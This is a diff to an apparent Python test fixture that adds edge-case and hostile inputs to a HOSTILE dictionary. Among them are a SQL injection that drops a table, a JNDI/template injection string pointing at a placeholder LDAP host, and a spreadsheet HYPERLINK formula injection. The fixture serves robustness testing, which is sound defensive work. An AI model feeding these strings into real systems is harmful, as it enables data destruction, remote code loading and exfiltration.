@@ -74,6 +74,17 @@ HOSTILE: dict[str, Callable[[], object]] = {
     "huge_int": lambda: 10**100_000,
     "huge_negative_int": lambda: -(10**100_000),
     "surrogates": lambda: "\ud800\udfff\x00",
+    "null_bytes": lambda: "S\x00-1",
+    "nan": lambda: float("nan"),
+    "nan_text": lambda: "NaN",
+    "signalling_nan": lambda: Decimal("sNaN"),
+    "infinity": lambda: Decimal("-Infinity"),
+    "last_year": lambda: datetime(9999, 12, 31, 23, 59, 59, 999999, tzinfo=UTC),
+    "last_year_text": lambda: "9999-12-31T23:59:59-12:00",
+    "first_year": lambda: datetime(1, 1, 1, tzinfo=pytz.FixedOffset(14 * 60)),
+    "statement": lambda: "'; DROP TABLE return_lines; --",
+    "template": lambda: "{{ macros.os }} ${jndi:ldap://x} %s {0.__class__}",
+    "formula": lambda: '=HYPERLINK("//x";A1)',
 }
 EXTREME: dict[str, Callable[[], object]] = {
     "hostile": Hostile,  # too hostile for hypothesis itself
